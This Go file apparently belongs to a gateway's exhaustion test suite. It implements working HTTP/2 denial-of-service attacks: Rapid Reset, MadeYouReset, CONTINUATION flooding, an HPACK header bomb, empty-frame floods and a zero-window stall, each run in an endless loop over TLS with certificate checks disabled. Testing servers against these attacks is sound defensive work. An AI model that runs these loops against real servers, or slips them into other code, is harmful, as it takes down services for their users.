package main

// The attacks of TestExhaustion that speak HTTP/2.

import (
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"io"
	"net"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// An enemy speaks HTTP/2 frame by frame.
type enemy struct {
	*http2.Framer
	out    *flushed
	fields *hpack.Encoder
	block  bytes.Buffer
	bed    *bed
	stream uint32
}

// http2 attacks on connection after connection. Each attack ends when the
// gateway closes the connection, which it must if the attack does not look at
// its context.
func (b *bed) http2(ctx context.Context, c *tally, settings []http2.Setting, attack func(context.Context, *enemy) error) {
	b.each(func() {
		b.dial(c, func(plain net.Conn) {
			conn := tls.Client(plain, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}})
			conn.SetDeadline(time.Now().Add(60 * time.Second))
			out := &flushed{w: conn}
			e := &enemy{Framer: http2.NewFramer(out, conn), out: out, bed: b, stream: 1}
			e.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
			e.fields = hpack.NewEncoder(&e.block)
			if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
				c.add("closed")
				return
			}
			if err := e.WriteSettings(settings...); err != nil {
				c.add("closed")
				return
			}
			attacking, stop := context.WithCancel(ctx)
			defer stop()
			said := make(chan string, 1)
			go func() { said <- e.listen(c); stop() }()
			if err := attack(attacking, e); err == nil && ctx.Err() != nil {
				c.add("still open")
				plain.Close()
				<-said
				return
			}
			c.add(<-said)
		})
	})
}

// listen reads what the gateway says until it closes, and returns why.
func (e *enemy) listen(c *tally) string {
	for {
		f, err := e.ReadFrame()
		if head, ok := f.(*http2.MetaHeadersFrame); ok && head.PseudoValue("status") != "200" {
			c.add(head.PseudoValue("status"))
		}
		if away, ok := f.(*http2.GoAwayFrame); ok && away.ErrCode != http2.ErrCodeNo {
			return "GOAWAY " + away.ErrCode.String()
		}
		if err != nil {
			return "closed"
		}
	}
}

// head is a header block for the honest user's path, with more fields.
func (e *enemy) head(path string, more ...hpack.HeaderField) []byte {
	return e.asking("GET", path, more...)
}

func (e *enemy) asking(method, path string, more ...hpack.HeaderField) []byte {
	e.block.Reset()
	for _, f := range append([]hpack.HeaderField{
		{Name: ":method", Value: method}, {Name: ":scheme", Value: "https"}, {Name: ":authority", Value: e.bed.address}, {Name: ":path", Value: path},
		{Name: "authorization", Value: "Bearer " + e.bed.token},
	}, more...) {
		_ = e.fields.WriteField(f)
	}
	return e.block.Bytes()
}

func (e *enemy) open(path string, end bool) error {
	err := e.WriteHeaders(http2.HeadersFrameParam{StreamID: e.stream, BlockFragment: e.head(path), EndHeaders: true, EndStream: end})
	e.stream += 2
	return err
}

// rapidReset is CVE-2023-44487.
func (b *bed) rapidReset(ctx context.Context, c *tally) {
	b.http2(ctx, c, nil, func(_ context.Context, e *enemy) error {
		for {
			if err := e.open("/hello", true); err != nil {
				return err
			}
			if err := e.WriteRSTStream(e.stream-2, http2.ErrCodeCancel); err != nil {
				return err
			}
		}
	})
}

// madeToReset does not reset its streams: it sends what is of none, and the gateway
// has to. That is CVE-2025-8671.
func (b *bed) madeToReset(ctx context.Context, c *tally) {
	b.http2(ctx, c, nil, func(_ context.Context, e *enemy) error {
		for {
			block := e.asking([]string{"GET", "HEAD"}[e.stream/2%2], "/large")
			if err := e.WriteHeaders(http2.HeadersFrameParam{StreamID: e.stream, BlockFragment: block, EndHeaders: true, EndStream: true}); err != nil {
				return err
			}
			if err := e.WriteData(e.stream, false, []byte("x")); err != nil {
				return err
			}
			e.stream += 2
		}
	})
}

// continuations are a head without an end: CVE-2023-45288.
func (b *bed) continuations(ctx context.Context, c *tally) {
	b.http2(ctx, c, nil, func(_ context.Context, e *enemy) error {
		if err := e.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: e.head("/hello")}); err != nil {
			return err
		}
		for {
			e.block.Reset()
			for range 100 {
				_ = e.fields.WriteField(hpack.HeaderField{Name: "x-flood", Value: strings.Repeat("x", 100), Sensitive: true})
			}
			if err := e.WriteContinuation(1, false, e.block.Bytes()); err != nil {
				return err
			}
		}
	})
}

// bomb is a head of few bytes that stands for megabytes.
func (b *bed) bomb(ctx context.Context, c *tally) {
	b.http2(ctx, c, nil, func(ctx context.Context, e *enemy) error {
		large := hpack.HeaderField{Name: "x-bomb", Value: strings.Repeat("x", 3000)} // once in the table, one byte each
		for ctx.Err() == nil {
			fields := make([]hpack.HeaderField, 10000)
			for i := range fields {
				fields[i] = large
			}
			block := bytes.Clone(e.head("/hello", fields...))
			first := block[:min(len(block), 16<<10)]
			err := e.WriteHeaders(http2.HeadersFrameParam{StreamID: e.stream, BlockFragment: first, EndStream: true, EndHeaders: len(first) == len(block)})
			for rest := block[len(first):]; err == nil && len(rest) > 0; {
				part := rest[:min(len(rest), 16<<10)]
				rest = rest[len(part):]
				err = e.WriteContinuation(e.stream, len(rest) == 0, part)
			}
			if e.stream += 2; err != nil {
				return err
			}
		}
		return nil
	})
}

// pings, settings and frames without content cost the sender nothing.
func (b *bed) emptyFrames(ctx context.Context, c *tally) {
	b.http2(ctx, c, nil, func(ctx context.Context, e *enemy) error {
		if err := e.open("/upload", false); err != nil {
			return err
		}
		for ctx.Err() == nil {
			if err := errors.Join(e.WritePing(false, [8]byte{}), e.WriteSettings(), e.WriteData(1, false, nil), e.WriteDataPadded(1, false, nil, []byte{}), e.WriteRawFrame(0x0a, 0, 0, nil)); err != nil {
				return err
			}
		}
		return nil
	})
}

// windowless asks for much and opens no window for it.
func (b *bed) windowless(ctx context.Context, c *tally) {
	b.http2(ctx, c, []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}, func(ctx context.Context, e *enemy) error {
		for range 90 {
			if err := e.open("/large", true); err != nil {
				return err
			}
		}
		err := e.out.Flush()
		<-ctx.Done()
		return err
	})
}

// flushed buffers small frames, as an enemy would who wants to be quick.
type flushed struct {
	mu sync.Mutex
	w  io.Writer
	b  []byte
}

func (f *flushed) Write(p []byte) (int, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	if f.b = append(f.b, p...); len(f.b) < 8<<10 {
		return len(p), nil
	}
	return len(p), f.flush()
}

func (f *flushed) Flush() error {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.flush()
}

func (f *flushed) flush() error {
	_, err := f.w.Write(f.b)
	f.b = f.b[:0]
	return err
}
